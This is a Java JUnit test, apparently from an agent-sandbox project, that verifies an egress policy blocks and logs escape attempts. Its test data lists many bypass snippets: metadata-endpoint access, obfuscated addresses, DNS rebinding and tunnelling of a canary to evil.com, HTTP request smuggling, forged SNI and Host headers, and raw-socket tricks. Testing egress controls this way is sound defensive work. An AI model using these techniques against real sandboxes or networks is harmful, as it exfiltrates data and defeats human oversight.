package io.agentfense.sandbox;

import static org.assertj.core.api.Assertions.assertThat;
import static org.awaitility.Awaitility.await;
import static org.junit.jupiter.params.provider.Arguments.arguments;

import io.agentfense.sandbox.event.SandboxEvent.NetworkDenied;
import java.io.IOException;
import java.time.Duration;
import java.util.ArrayList;
import java.util.List;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;

/**
 * Ways out that an egress policy must not leave open. No byte reaches a server that is not allowed: those of the
 * {@link OutsideWorld} write down whoever comes. And each attempt is told of, with its transport, host and port, but for
 * those for which the kernel gives out no socket at all: there is nothing to see.
 */
class EgressBypassTest {
    private static final String CANARY = "CANARY-1f0c";

    private static OutsideWorld world;
    private static NetworkedShell shell;
    private static NetworkedShell neighbour;

    @BeforeAll
    static void start() throws Exception {
        world = OutsideWorld.open();
        GoodServers.in(world);
        shell = NetworkedShell.start(world);
        neighbour = NetworkedShell.start(world);
    }

    @AfterAll
    static void stop() throws IOException {
        neighbour.close();
        shell.close();
        world.close();
    }

    /** A denial that is to be told: its transport, host and port. */
    private record Told(String transport, String host, int port) {
        static Told tcp(String host, int port) {
            return new Told("tcp", host, port);
        }

        static Told udp(String host, int port) {
            return new Told("udp", host, port);
        }

        static Told dns(String host) {
            return new Told("dns", host, 0);
        }

        boolean isIn(List<NetworkDenied> denials) {
            return denials.stream()
                    .anyMatch(denial -> denial.transport().equals(transport)
                            && denial.host().equals(host)
                            && denial.port() == port);
        }
    }

    private static Arguments attempt(String name, String script, Told... told) {
        return arguments(name, script, List.of(told));
    }

    private static List<Arguments> attempts() {
        List<Arguments> all = new ArrayList<>();
        all.addAll(literalAddresses());
        all.addAll(names());
        all.addAll(namesThatLeadElsewhere());
        all.addAll(proxy());
        all.addAll(hostsWithinConnections());
        all.addAll(datagramsAndNameServers());
        all.addAll(otherSockets());
        return all;
    }

    private static List<Arguments> literalAddresses() {
        return List.of(
                attempt("an IPv4 literal", "tcp('93.184.216.34', 80)", Told.tcp("93.184.216.34", 80)),
                attempt("the address of an allowed host", "tcp('93.184.216.34', 443)", Told.tcp("93.184.216.34", 443)),
                attempt("an IPv6 literal", "tcp('2606:4700::1111', 443)", Told.tcp("2606:4700::1111", 443)),
                attempt("an IPv4-mapped literal", "tcp('::ffff:10.0.0.5', 80)", Told.tcp("10.0.0.5", 80)),
                attempt("an IPv4-compatible literal", "tcp('::10.0.0.6', 80)", Told.tcp("::a00:6", 80)),
                attempt("NAT64", "tcp('64:ff9b::a00:5', 80)", Told.tcp("64:ff9b::a00:5", 80)),
                attempt("6to4", "tcp('2002:a00:5::1', 80)", Told.tcp("2002:a00:5::1", 80)),
                attempt("a decimal address", "curl('http://167772165:81/')", Told.tcp("10.0.0.5", 81)),
                attempt("an octal address", "curl('http://012.0.0.7:81/')", Told.tcp("10.0.0.7", 81)),
                attempt("a hexadecimal address", "curl('http://0xa000008:81/')", Told.tcp("10.0.0.8", 81)),
                attempt("a short address", "curl('http://10.9:81/')", Told.tcp("10.0.0.9", 81)),
                attempt("metadata", "tcp('169.254.169.254', 80)", Told.tcp("169.254.169.254", 80)),
                attempt("metadata by IPv6", "tcp('fd00:ec2::254', 80)", Told.tcp("fd00:ec2::254", 80)),
                attempt("a private address", "tcp('192.168.1.1', 22)", Told.tcp("192.168.1.1", 22)),
                attempt("an address beside a listed range", "tcp('10.10.0.1', 80)", Told.tcp("10.10.0.1", 80)),
                attempt("another port of a listed range", "tcp('10.9.0.1', 8080)", Told.tcp("10.9.0.1", 8080)),
                attempt("shared address space", "tcp('100.64.0.1', 80)", Told.tcp("100.64.0.1", 80)),
                attempt("a reserved address", "tcp('240.0.0.1', 80)", Told.tcp("240.0.0.1", 80)),
                attempt("an address within 0.0.0.0/8", "tcp('0.1.2.3', 80)", Told.tcp("0.1.2.3", 80)),
                attempt("port 0", "tcp('8.8.4.4', 0)", Told.tcp("8.8.4.4", 0)),
                attempt(
                        "a scan of ports",
                        "for port in range(8000, 8100): tcp('198.51.100.7', port)",
                        Told.tcp("198.51.100.7", 8000),
                        Told.tcp("198.51.100.7", 8080),
                        Told.tcp("198.51.100.7", 8099)),
                attempt("another sandbox's side of a name", "tcp('198.18.0.77', 80)", Told.tcp("198.18.0.77", 80)),
                attempt(
                        "a source address of one's choice",
                        "s = socket.socket(); s.bind(('10.9.0.1', 0)); send(s, ('10.0.0.20', 80))",
                        Told.tcp("10.0.0.20", 80)),
                attempt(
                        "bound to a device",
                        "s = socket.socket(); option(s, socket.SOL_SOCKET, 25, b'lo'); send(s, ('10.0.0.21', 80))",
                        Told.tcp("10.0.0.21", 80)),
                attempt(
                        "a mark for other routes",
                        "s = socket.socket(); option(s, socket.SOL_SOCKET, 36, 1); send(s, ('10.0.0.22', 80))",
                        Told.tcp("10.0.0.22", 80)),
                attempt(
                        "a transparent socket",
                        "s = socket.socket(); option(s, socket.SOL_IP, 19, 1); send(s, ('10.0.0.23', 80))",
                        Told.tcp("10.0.0.23", 80)),
                attempt(
                        "a source route",
                        "s = socket.socket(); option(s, socket.SOL_IP, socket.IP_OPTIONS, bytes([131, 7, 4, 8, 8, 8, 8, 0]));"
                                + " send(s, ('10.0.0.24', 80)); tcp('10.0.0.24', 80)",
                        Told.tcp("10.0.0.24", 80)),
                attempt(
                        "data in the first packet",
                        "s = socket.socket(); send_to(s, 0x20000000, ('10.0.0.25', 80)); tcp('10.0.0.25', 80)",
                        Told.tcp("10.0.0.25", 80)),
                attempt(
                        "MPTCP",
                        "send(socket.socket(socket.AF_INET, socket.SOCK_STREAM, 262), ('10.0.0.26', 80))",
                        Told.tcp("10.0.0.26", 80)));
    }

    private static List<Arguments> names() {
        return List.of(
                attempt("a host that is not listed", "tcp('evil.example.net', 80)", Told.dns("evil.example.net")),
                attempt("below an exact name", "tcp('x.api.example.com', 80)", Told.dns("x.api.example.com")),
                attempt("above an exact name", "tcp('example.com', 80)", Told.dns("example.com")),
                attempt("beside an exact name", "tcp('evil-api.example.com', 80)", Told.dns("evil-api.example.com")),
                attempt(
                        "an allowed name within another",
                        "tcp('api.example.com.evil.com', 80)",
                        Told.dns("api.example.com.evil.com")),
                attempt("beside a wildcard", "tcp('evilwild.test', 80)", Told.dns("evilwild.test")),
                attempt("the name below which a wildcard is", "tcp('wild.test', 80)", Told.dns("wild.test")),
                attempt("a wildcard as a name", "query('*.wild.test', 1)", Told.dns("*.wild.test")),
                attempt(
                        "a homograph",
                        "proxy('CONNECT api.\\u0435xample.com:443 HTTP/1.1')",
                        Told.tcp("api.\u00d0\u00b5xample.com:443", 0)),
                attempt(
                        "an allowed host on another port",
                        "tcp('api.example.com', 22)",
                        Told.tcp("api.example.com", 22)),
                attempt(
                        "case and a dot do not help",
                        "tcp('API.Example.COM.', 8443)",
                        Told.tcp("api.example.com", 8443)),
                attempt("DNS over HTTPS at a host", "tcp('dns.google', 443)", Told.dns("dns.google")),
                attempt("DNS over HTTPS at an address", "tcp('8.8.8.8', 443)", Told.tcp("8.8.8.8", 443)),
                attempt("DNS over TLS", "tcp('1.1.1.1', 853)", Told.tcp("1.1.1.1", 853)));
    }

    private static List<Arguments> namesThatLeadElsewhere() {
        List<Arguments> all = new ArrayList<>();
        for (String name : List.of(
                "private",
                "metadata",
                "loopback",
                "loopback6",
                "zero",
                "shared",
                "nat64",
                "sixtofour",
                "unique",
                "multicast",
                "benchmark",
                "alias")) {
            String host = name + ".wild.test";
            all.add(attempt("a name that leads to: " + name, "tcp('" + host + "', 80)", Told.tcp(host, 80)));
            all.add(attempt(
                    "by the proxy, a name that leads to: " + name,
                    "proxy('CONNECT " + host + ":443 HTTP/1.1')",
                    Told.tcp(host, 443)));
        }
        all.add(attempt(
                "DNS rebinding",
                "for i in range(6): tcp('rebinding.wild.test', 80, head('rebinding.wild.test'))",
                Told.tcp("rebinding.wild.test", 80)));
        for (String to : List.of("169.254.169.254", "10.0.0.30", "127.0.0.1:9000", "elsewhere.example.org")) {
            String host = to.split(":")[0];
            int port = to.contains(":") ? 9000 : 80;
            all.add(attempt(
                    "a redirect to " + to,
                    "curl('-L', 'http://api.example.com/to/http://" + to
                            + "/', proxy='http://127.0.0.1:3128', no_proxy='')",
                    Told.tcp(host, port)));
        }
        all.add(attempt(
                "a redirect without the proxy",
                "curl('-L', 'http://api.example.com/to/http://10.0.0.31/')",
                Told.tcp("10.0.0.31", 80)));
        return all;
    }

    private static List<Arguments> proxy() {
        return List.of(
                attempt("CONNECT to an address", "proxy('CONNECT 10.0.1.1:443 HTTP/1.1')", Told.tcp("10.0.1.1", 443)),
                attempt(
                        "CONNECT to an IPv6 address",
                        "proxy('CONNECT [fd00::1]:443 HTTP/1.1')",
                        Told.tcp("fd00::1", 443)),
                attempt(
                        "CONNECT to a mapped address",
                        "proxy('CONNECT [::ffff:10.0.1.2]:443 HTTP/1.1')",
                        Told.tcp("10.0.1.2", 443)),
                attempt(
                        "CONNECT to another port",
                        "proxy('CONNECT api.example.com:22 HTTP/1.1')",
                        Told.tcp("api.example.com", 22)),
                attempt(
                        "CONNECT to the server's own loopback",
                        "proxy('CONNECT 127.0.0.1:9000 HTTP/1.1')",
                        Told.tcp("127.0.0.1", 9000)),
                attempt(
                        "CONNECT to localhost",
                        "proxy('CONNECT localhost:8080 HTTP/1.1')",
                        Told.tcp("localhost", 8080)),
                attempt("CONNECT to 0.0.0.0", "proxy('CONNECT 0.0.0.0:8080 HTTP/1.1')", Told.tcp("0.0.0.0", 8080)),
                attempt("CONNECT to ::", "proxy('CONNECT [::]:8080 HTTP/1.1')", Told.tcp("::", 8080)),
                attempt(
                        "CONNECT to the proxy itself",
                        "proxy('CONNECT 127.0.0.1:3128 HTTP/1.1')",
                        Told.tcp("127.0.0.1", 3128)),
                attempt(
                        "CONNECT to a decimal address",
                        "proxy('CONNECT 2130706433:9000 HTTP/1.1')",
                        Told.tcp("2130706433:9000", 0)),
                attempt(
                        "CONNECT to a short address",
                        "proxy('CONNECT 127.1:9000 HTTP/1.1')",
                        Told.tcp("127.1:9000", 0)),
                attempt(
                        "CONNECT with a user",
                        "proxy('CONNECT api.example.com@evil.net:443 HTTP/1.1')",
                        Told.tcp("api.example.com@evil.net:443", 0)),
                attempt(
                        "CONNECT with a NUL",
                        "proxy('CONNECT api.example.com\\0.evil.net:443 HTTP/1.1')",
                        Told.tcp("api.example.com\0.evil.net:443", 0)),
                attempt(
                        "CONNECT with a trailing dot",
                        "proxy('CONNECT evil.net.:443 HTTP/1.1')",
                        Told.tcp("evil.net", 443)),
                attempt(
                        "CONNECT with another Host",
                        "proxy('CONNECT evil2.net:443 HTTP/1.1\\r\\nHost: api.example.com:443')",
                        Told.tcp("evil2.net", 443)),
                attempt(
                        "an absolute URI of another host",
                        "proxy('GET http://evil3.net/ HTTP/1.1\\r\\nHost: api.example.com')",
                        Told.tcp("evil3.net", 80)),
                attempt(
                        "an absolute URI with another Host",
                        "proxy('GET http://api.example.com/ HTTP/1.1\\r\\nHost: evil4.net')",
                        Told.tcp("api.example.com", 80)),
                attempt(
                        "a user in an absolute URI",
                        "proxy('GET http://api.example.com:80@evil5.net/ HTTP/1.1\\r\\nHost: api.example.com')",
                        Told.tcp("api.example.com", 80)),
                attempt(
                        "a backslash in an absolute URI",
                        "proxy('GET http://evil6.net\\\\@api.example.com/ HTTP/1.1\\r\\nHost: x')",
                        Told.tcp("x", 80)),
                attempt(
                        "an absolute URI of another scheme",
                        "proxy('GET ftp://evil7.net/ HTTP/1.1\\r\\nHost: evil7.net')",
                        Told.tcp("evil7.net", 80)),
                attempt(
                        "a relative URI at the proxy",
                        "proxy('GET / HTTP/1.1\\r\\nHost: evil8.net')",
                        Told.tcp("evil8.net", 80)),
                attempt(
                        "a second request behind the first",
                        "proxy('GET http://api.example.com/ HTTP/1.1\\r\\nHost: api.example.com\\r\\n\\r\\n'"
                                + "'GET http://evil9.net/" + CANARY + " HTTP/1.1\\r\\nHost: evil9.net')",
                        Told.tcp("evil9.net", 80)),
                attempt(
                        "both lengths of a body",
                        "proxy('POST http://api.example.com/ HTTP/1.1\\r\\nHost: api.example.com\\r\\nContent-Length: 4\\r\\n'"
                                + "'Transfer-Encoding: chunked\\r\\n\\r\\n0\\r\\n\\r\\nGET http://evil10.net/" + CANARY
                                + " HTTP/1.1\\r\\nHost: evil10.net')",
                        Told.tcp("api.example.com", 80)),
                attempt(
                        "two lengths of a body",
                        "proxy('POST http://api.example.com/ HTTP/1.1\\r\\nHost: api.example.com\\r\\nContent-Length: 0\\r\\n'"
                                + "'Content-Length: 60\\r\\n\\r\\nGET /" + CANARY + " HTTP/1.1\\r\\nHost: evil11.net')",
                        Told.tcp("api.example.com", 80)),
                attempt(
                        "an odd Transfer-Encoding",
                        "proxy('POST http://api.example.com/ HTTP/1.1\\r\\nHost: api.example.com\\r\\nTransfer-Encoding: xchunked'"
                                + "'\\r\\n\\r\\n0\\r\\n\\r\\nGET /" + CANARY + " HTTP/1.1\\r\\nHost: evil12.net')",
                        Told.tcp("api.example.com", 80)),
                attempt(
                        "two Hosts",
                        "proxy('GET http://api.example.com/ HTTP/1.1\\r\\nHost: api.example.com\\r\\nHost: evil13.net')",
                        Told.tcp("api.example.com", 80)),
                attempt(
                        "a folded Host",
                        "proxy('GET http://api.example.com/ HTTP/1.1\\r\\nHost: api.example.com\\r\\n evil14.net')",
                        Told.tcp("api.example.com", 80)));
    }

    private static List<Arguments> hostsWithinConnections() {
        return List.of(
                attempt(
                        "CONNECT, then TLS for another name",
                        "tunnel('api.example.com:443', hello('evil20.net'))",
                        Told.tcp("api.example.com", 443)),
                attempt(
                        "CONNECT, then TLS for another allowed name",
                        "tunnel('api.example.com:443', hello('good.wild.test'))",
                        Told.tcp("api.example.com", 443)),
                attempt(
                        "TLS for another name",
                        "tcp('api.example.com', 443, hello('evil21.net'))",
                        Told.tcp("api.example.com", 443)),
                attempt(
                        "TLS for another name, byte by byte",
                        "slowly('api.example.com', 443, hello('evil22.net'))",
                        Told.tcp("api.example.com", 443)),
                attempt(
                        "TLS for two names",
                        "tcp('api.example.com', 443, hello('api.example.com', 'evil23.net'))",
                        Told.tcp("api.example.com", 443)),
                attempt(
                        "TLS that hides its name",
                        "tcp('api.example.com', 443, hello('api.example.com', ech=True))",
                        Told.tcp("api.example.com", 443)),
                attempt(
                        "TLS that lies about its length",
                        "tcp('api.example.com', 443, hello('api.example.com', cut=3))",
                        Told.tcp("api.example.com", 443)),
                attempt(
                        "another Host",
                        "tcp('api.example.com', 80, head('evil24.net'))",
                        Told.tcp("api.example.com", 80)),
                attempt(
                        "another Host, byte by byte",
                        "slowly('api.example.com', 80, head('evil25.net'))",
                        Told.tcp("api.example.com", 80)),
                attempt(
                        "another Host behind empty lines",
                        "tcp('api.example.com', 80, b'\\r\\n\\r\\n' + head('evil26.net'))",
                        Told.tcp("api.example.com", 80)),
                attempt(
                        "another Host after CONNECT",
                        "tunnel('api.example.com:80', head('evil27.net'))",
                        Told.tcp("api.example.com", 80)),
                attempt(
                        "another Host in a second request",
                        "tcp('api.example.com', 80, head('api.example.com') + head('evil28.net'))",
                        Told.tcp("api.example.com", 80)),
                attempt(
                        "no Host",
                        "tcp('api.example.com', 80, b'GET / HTTP/1.0\\r\\n\\r\\n')",
                        Told.tcp("api.example.com", 80)),
                attempt(
                        "an absolute URI on a connection",
                        "tcp('api.example.com', 80, b'GET http://evil29.net/ HTTP/1.1\\r\\nHost: api.example.com\\r\\n\\r\\n')",
                        Told.tcp("evil29.net", 80)),
                attempt(
                        "CONNECT on a connection",
                        "tcp('api.example.com', 80, b'CONNECT evil30.net:443 HTTP/1.1\\r\\n\\r\\n')",
                        Told.tcp("evil30.net", 443)),
                attempt(
                        "a method of one's own",
                        "tcp('api.example.com', 80, b'EVIL / HTTP/1.1\\r\\nHost: evil31.net\\r\\n\\r\\n')",
                        Told.tcp("api.example.com", 80)),
                attempt(
                        "HTTP/2 in the clear",
                        "tcp('api.example.com', 80, b'PRI * HTTP/2.0\\r\\n\\r\\nSM\\r\\n\\r\\n')",
                        Told.tcp("api.example.com", 80)),
                attempt(
                        "a first line without end",
                        "tcp('api.example.com', 80, b'GET /' + b'a' * 40000)",
                        Told.tcp("api.example.com", 80)));
    }

    private static List<Arguments> datagramsAndNameServers() {
        String label = "a".repeat(60);
        return List.of(
                attempt("UDP", "udp('8.8.8.8', 9999)", Told.udp("8.8.8.8", 9999)),
                attempt("UDP by IPv6", "udp('2606:4700::1111', 9999)", Told.udp("2606:4700::1111", 9999)),
                attempt("UDP to a listed range", "udp('10.9.0.1', 9999)", Told.udp("10.9.0.1", 9999)),
                attempt(
                        "QUIC to an allowed host",
                        "udp(socket.gethostbyname('api.example.com'), 443)",
                        Told.udp("198.18.0.1", 443)),
                attempt("NTP", "udp('129.6.15.28', 123)", Told.udp("129.6.15.28", 123)),
                attempt("UDP-Lite", "udp('8.8.8.9', 9999, 136)", new Told("ip", "8.8.8.9", 9999)),
                attempt("multicast by IPv6", "udp('ff0e::fb', 5353)", Told.udp("ff0e::fb", 5353)),
                attempt("another name server", "query('api.example.com', 1, '9.9.9.9')", Told.udp("9.9.9.9", 53)),
                attempt("another name server by TCP", "tcp('9.9.9.9', 53)", Told.tcp("9.9.9.9", 53)),
                attempt(
                        "a text record of an allowed name",
                        "query('api.example.com', 16)",
                        Told.dns("api.example.com")),
                attempt("a NULL record of an allowed name", "query('x.wild.test', 10)", Told.dns("x.wild.test")),
                attempt("all records of an allowed name", "query('y.wild.test', 255)", Told.dns("y.wild.test")),
                attempt("a transfer of a zone", "query('z.wild.test', 252)", Told.dns("z.wild.test")),
                attempt("another class", "query('chaos.wild.test', 1, dns_class=3)", Told.dns("chaos.wild.test")),
                attempt(
                        "a tunnel of long labels",
                        "query('" + label + "." + label + ".t.evil.com', 16)",
                        Told.dns(label + "." + label + ".t.evil.com")),
                attempt(
                        "a tunnel of addresses",
                        "query('" + CANARY + ".evil.com', 28)",
                        Told.dns(CANARY + ".evil.com")),
                attempt("an update", "query('update.wild.test', 1, opcode=5)", Told.dns("")),
                attempt("no question at all", "udp('127.0.0.1', 53, data=b'\\xff' * 40)", Told.dns("")));
    }

    /** Those that the kernel gives out to nobody inside tell nothing; a script that gets one fails. */
    private static List<Arguments> otherSockets() {
        return List.of(
                attempt("MPTCP", "send(mptcp(), ('93.184.216.37', 80))", Told.tcp("93.184.216.37", 80)),
                attempt("SCTP", "no_socket(2, 1, 132)"),
                attempt("SCTP in packets", "no_socket(2, 5, 132)"),
                attempt("DCCP", "no_socket(2, 6, 33)"),
                attempt("raw ICMP", "no_socket(2, 3, 1)"),
                attempt("raw ICMP by IPv6", "no_socket(10, 3, 58)"),
                attempt("raw IP", "no_socket(2, 3, 255)"),
                attempt("raw TCP", "no_socket(2, 3, 6)"),
                attempt("ping", "no_socket(2, 2, 1)"),
                attempt("ping by IPv6", "no_socket(10, 2, 58)"),
                attempt("packets of the device", "no_socket(17, 3, 3)"),
                attempt("packets of an XDP program", "no_socket(44, 3, 0)"),
                attempt("vsock to the machine's host", "no_socket(40, 1, 0)"),
                attempt("vsock in datagrams", "no_socket(40, 2, 0)"),
                attempt("Bluetooth", "no_socket(31, 3, 1)"),
                attempt("the kernel's ciphers", "no_socket(38, 5, 0)"),
                attempt("TIPC", "no_socket(30, 5, 0)"),
                attempt("RDS", "no_socket(21, 5, 0)"),
                attempt("SMC", "no_socket(43, 1, 0)"),
                attempt("KCM", "no_socket(41, 2, 0)"),
                attempt("QRTR", "no_socket(42, 2, 0)"),
                attempt("L2TP", "no_socket(2, 2, 115)"),
                attempt("netlink of the audit", "no_socket(16, 3, 9)"),
                attempt("netlink of devices", "no_socket(16, 3, 15)"),
                attempt("netlink of others", "no_socket(16, 3, 16)"),
                attempt("a route of one's own", "no_program('ip', 'route', 'add', '93.184.216.0/24', 'dev', 'lo')"),
                attempt(
                        "an address of one's own",
                        "no_program('ip', 'address', 'add', '93.184.216.36/32', 'dev', 'lo')"),
                attempt("a device of one's own", "no_program('ip', 'link', 'add', 'evil0', 'type', 'dummy')"));
    }

    private static final String PRELUDE = """
            import os, socket, struct, subprocess
            canary = b'CANARY-1f0c'
            def head(host):
                return b'GET /' + canary + b' HTTP/1.1\\r\\nHost: ' + host.encode() + b'\\r\\n\\r\\n'
            def send(s, to, data=None):
                s.settimeout(5)
                try:
                    s.connect(to)
                    s.sendall(data or head('x'))
                    print(to, s.recv(2000))
                except OSError as e:
                    print(to, e)
                s.close()
            def tcp(host, port, data=None):
                try:
                    family, kind, protocol, _, to = socket.getaddrinfo(host, port, type=socket.SOCK_STREAM)[0]
                except OSError as e:
                    print(host, e)
                    return
                send(socket.socket(family, kind), to, data)
            def slowly(host, port, data):
                s = socket.create_connection((host, port))
                s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
                try:
                    for i in range(len(data)):
                        s.send(data[i:i + 1])
                    print(s.recv(2000))
                except OSError as e:
                    print(e)
            def option(s, level, name, value):
                try:
                    s.setsockopt(level, name, value)
                except OSError as e:
                    print('option', e)
            def send_to(s, flags, to):
                try:
                    s.sendto(head('x'), flags, to)
                except OSError as e:
                    print('sendto', e)
            def proxy(request):
                send(socket.socket(), ('127.0.0.1', 3128), request.encode() + b'\\r\\n\\r\\n')
            def tunnel(to, data):
                s = socket.create_connection(('127.0.0.1', 3128))
                try:
                    s.sendall(b'CONNECT ' + to.encode() + b' HTTP/1.1\\r\\n\\r\\n')
                    print(s.recv(2000))
                    s.sendall(data)
                    print(s.recv(2000))
                except OSError as e:
                    print(e)
            def hello(*names, ech=False, cut=0):
                entries = b''.join(b'\\0' + struct.pack('>H', len(n)) + n.encode() for n in names)
                name = struct.pack('>H', len(entries)) + entries
                extensions = struct.pack('>HH', 0, len(name)) + name
                if ech:
                    extensions += struct.pack('>HH', 0xfe0d, 11) + canary
                body = b'\\x03\\x03' + b'r' * 32 + b'\\0' + b'\\0\\x02\\x13\\x01' + b'\\x01\\0'
                body += struct.pack('>H', len(extensions)) + extensions[:len(extensions) - cut]
                message = b'\\x01' + struct.pack('>I', len(body))[1:] + body
                return b'\\x16\\x03\\x01' + struct.pack('>H', len(message)) + message
            def udp(host, port, protocol=0, data=canary):
                family, kind, _, _, to = socket.getaddrinfo(host, port, type=socket.SOCK_DGRAM)[0]
                try:
                    s = socket.socket(family, kind, protocol)
                    s.sendto(data, to)
                except OSError as e:
                    print(e)
            def query(name, kind, server='127.0.0.1', dns_class=1, opcode=0):
                labels = b''.join(bytes([len(label)]) + label.encode() for label in name.split('.'))
                question = struct.pack('>HHHHHH', 7, 0x100 | opcode << 11, 1, 0, 0, 0) + labels + b'\\0'
                s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
                s.settimeout(3)
                try:
                    s.sendto(question + struct.pack('>HH', kind, dns_class), (server, 53))
                    answer = s.recv(2000)
                    print('code', answer[3] & 15, 'answers', answer[7])
                except OSError as e:
                    print(e)
            def mptcp():
                try:
                    return socket.socket(socket.AF_INET, socket.SOCK_STREAM, 262)
                except OSError:
                    return socket.socket()  # A kernel without it.
            def no_socket(*arguments):
                try:
                    socket.socket(*arguments)
                except OSError as e:
                    print(e)
                    return
                raise SystemError('a socket of ' + repr(arguments))
            def no_program(*arguments):
                assert subprocess.run(arguments).returncode != 0
            def curl(*arguments, proxy=None, no_proxy='*'):
                variables = {'http_proxy': proxy} if proxy else {}
                subprocess.run(['curl', '-sS', '-m', '5', '--noproxy', no_proxy, *arguments], env=variables)
            """;

    @ParameterizedTest(name = "{0}")
    @MethodSource("attempts")
    void nothingGetsOutAndEachAttemptIsTold(String name, String script, List<Told> told) throws IOException {
        List<NetworkDenied> before = shell.denials();
        int requests = world.requests().size();
        String output = shell.python(PRELUDE + script);

        await(output)
                .atMost(Duration.ofSeconds(20))
                .untilAsserted(() -> assertThat(told)
                        .allMatch(each -> each.isIn(shell.denials()
                                .subList(before.size(), shell.denials().size()))));
        assertThat(output).doesNotContain("Traceback").doesNotContain("hello evil");
        assertThat(world.escapes()).isEmpty();
        assertThat(world.requests().stream().skip(requests)).noneMatch(request -> request.contains("evil"));
        assertThat(world.names().asked()).noneMatch(asked -> asked.contains(CANARY) || asked.contains("evil"));
    }
}
